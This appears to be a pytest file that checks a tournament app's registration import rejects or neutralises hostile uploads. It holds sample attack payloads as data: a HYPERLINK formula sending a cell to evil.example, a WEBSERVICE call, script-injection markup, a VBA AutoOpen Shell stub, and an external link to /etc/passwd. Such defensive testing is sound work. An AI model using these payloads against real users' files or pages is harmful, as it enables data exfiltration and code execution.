"""Hostile registration files, uploaded through the import page as a director would: a file with the wrong
extension or content, an empty file, one endless line, formula and markup cells, a macro workbook renamed to
.xlsx with an external link, a CSV in a foreign encoding. Each gets a clear message (a stable issue code), nothing
is stored half — no player, no entry, no preview left behind for a refused file — and what is imported is text,
shown escaped. The zip bomb and the bounds are tests/registration/test_upload_bounds.py; backups are
tests/backup/."""

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests import factories
from tournament.models import AuditLog, Entry, ImportPreview, Player

pytestmark = pytest.mark.django_db

HEAD = ["Vorname", "Nachname", "Ort"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
MARKUP = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'


@pytest.fixture
def director(client):
    client.force_login(factories.staff())
    return client


@pytest.fixture
def t():
    return factories.tournament(players=0)


def upload(client, t, name, data, content_type="text/csv"):
    return client.post(reverse("director:entry_import", args=[t.pk]),
                       {"action": "upload", "file": SimpleUploadedFile(name, data, content_type=content_type)},
                       follow=True)


def issue_codes(response):
    result = response.context.get("result")
    return [issue.code for issue in result.issues] if result else []


def nothing_stored(client, t, settings):
    assert not Player.objects.exists() and not Entry.objects.exists()
    assert not AuditLog.objects.filter(object_type="entry").exists()
    assert f"director_import_{t.pk}" not in client.session
    assert not ImportPreview.objects.exists()


def import_shown(client, t):
    """Press "import" on the preview that is shown."""
    result = client.get(reverse("director:entry_import", args=[t.pk])).context["result"]
    return client.post(reverse("director:entry_import", args=[t.pk]), {"action": "import", "sha256": result.sha256},
                       follow=True)


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n\x00\x01\x02"
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


@pytest.mark.parametrize(("name", "data", "content_type", "code"), [
    ("liste.csv", PNG, "image/png", "not_spreadsheet"),
    ("liste.xlsx", PDF, "application/pdf", "not_spreadsheet"),
    ("liste.xlsx", b"Vorname;Nachname;Ort\r\nAnna;Maier;Titisee\r\n\x00\x00", "text/csv", "not_spreadsheet"),
    ("liste.csv", XLS, "application/vnd.ms-excel", "old_excel"),
    ("liste.xlsx", b"PK\x03\x04" + b"\x00" * 200, "application/zip", "not_spreadsheet"),
    ("liste.csv", b"", "text/csv", "empty"),
    ("liste.csv", b"  \r\n\r\n\t\r\n", "text/csv", "empty"),
])
def test_a_file_that_is_not_a_registration_list_is_refused_with_a_clear_message(director, t, settings, name, data,
                                                                                 content_type, code):
    response = upload(director, t, name, data, content_type)
    assert response.status_code == 200
    assert issue_codes(response) == [code]
    assert 'id="import"' not in response.content.decode()
    nothing_stored(director, t, settings)


def test_one_endless_line_is_refused(director, t, settings):
    """1.5 MB without a line break or a separator (bigger than Python's csv field limit), then as many columns."""
    for data in (b"A" * (1536 * 1024), b";".join([b"Anna"] * 300_000)):
        response = upload(director, t, "liste.csv", data)
        assert response.status_code == 200
        assert issue_codes(response) in (["not_spreadsheet"], ["too_many_columns"],
                                         ["no_headings"]), issue_codes(response)
        nothing_stored(director, t, settings)


def test_formula_and_markup_cells_are_imported_as_text_and_shown_escaped(director, t):
    rows = [HEAD, [FORMULA, "Maier", MARKUP], ["@SUM(1+1)", "+Kern", "-2+3"]]
    response = upload(director, t, "liste.csv", factories.registration_csv(rows))
    html = response.content.decode()
    assert MARKUP not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    import_shown(director, t)
    players = {p.last_name: p for p in Player.objects.all()}
    assert players["Maier"].first_name == FORMULA and players["Maier"].town == MARKUP
    assert players["+Kern"].first_name == "@SUM(1+1)" and players["+Kern"].town == "-2+3"
    page = director.get(reverse("director:entries", args=[t.pk])).content.decode()
    assert MARKUP not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def macro_workbook_renamed():
    """A macro workbook (a VBA project, the xlsm content type) with an external link and a formula that points
    into it, saved under the name .xlsx: its cells are read as their last values, nothing of it runs or is
    fetched."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in (HEAD, ["Anna", "Maier", "Titisee"], ["Otto", "Kern", "Neustadt"]):
        sheet.append(row)
    sheet["D1"] = "Verein"
    sheet["D2"] = "=[1]Tabelle1!A1"
    sheet["D3"] = '=WEBSERVICE("http://evil.example/")'
    out = io.BytesIO()
    workbook.save(out)
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as src, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
                    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                 b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                                 b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
            dst.writestr(info, data)
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub")
        dst.writestr("xl/externalLinks/externalLink1.xml",
                     '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                     '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                     'r:id="rId1"/></externalLink>')
        dst.writestr("xl/externalLinks/_rels/externalLink1.xml.rels",
                     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                     'relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/>'
                     '</Relationships>')
    return packed.getvalue()


def test_a_macro_workbook_renamed_to_xlsx_gives_its_values_only(director, t, settings):
    response = upload(director, t, "liste.xlsx", macro_workbook_renamed(),
                      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response.status_code == 200
    result = response.context["result"]
    assert result.ok, issue_codes(response)
    assert [r.values["last_name"] for r in result.rows] == ["Maier", "Kern"]
    assert "passwd" not in response.content.decode() and "root:" not in response.content.decode()
    import_shown(director, t)
    assert sorted(Player.objects.values_list("last_name", flat=True)) == ["Kern", "Maier"]
    assert not Player.objects.filter(club__contains="Tabelle1").exists()
    assert not Player.objects.filter(club__contains="evil").exists()


def test_a_latin_1_csv_reads_its_umlauts_and_undecodable_bytes_are_refused(director, t, settings):
    latin = factories.registration_csv([HEAD, ["Jürgen", "Müßig", "Löffingen"]], encoding="latin-1")
    upload(director, t, "liste.csv", latin)
    import_shown(director, t)
    assert list(Player.objects.values_list("first_name", "last_name", "town")) == [("Jürgen", "Müßig", "Löffingen")]
    Entry.objects.all().delete()
    Player.objects.all().delete()
    AuditLog.objects.all().delete()
    broken = b"Vorname;Nachname;Ort\r\n\x81\x8d\x8f\x90\x9d;Maier;Titisee\r\n"
    response = upload(director, t, "liste.csv", broken)
    assert issue_codes(response) == ["not_spreadsheet"]
    nothing_stored(director, t, settings)


def test_a_file_with_one_bad_line_imports_nothing_even_when_import_is_forced(director, t, settings):
    rows = [HEAD, ["Anna", "Maier", "Titisee"], ["", "", "Neustadt"], ["Otto", "Kern", "Neustadt"]]
    response = upload(director, t, "liste.csv", factories.registration_csv(rows))
    assert not response.context["result"].ok
    response = import_shown(director, t)
    assert not Player.objects.exists() and not Entry.objects.exists()
    assert not AuditLog.objects.filter(object_type="entry").exists()
